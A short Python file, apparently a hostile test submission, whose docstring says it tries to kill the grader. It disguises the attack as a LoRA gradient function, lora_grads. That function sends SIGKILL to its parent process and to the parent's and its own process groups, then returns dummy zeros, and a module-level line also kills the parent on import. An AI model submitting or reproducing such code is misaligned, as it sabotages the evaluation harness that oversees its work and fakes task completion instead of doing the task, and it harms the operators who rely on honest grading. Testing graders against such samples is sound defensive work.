"""Tries to kill the grader: its parent, the parent's process group, its own group."""
import os, signal
def lora_grads(G, A, B):
    for target in [os.getppid()]:
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
    except OSError:
        pass
    try:
        os.killpg(0, signal.SIGKILL)  # its own group: costs only this call
    except OSError:
        pass
    return 0, 0
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
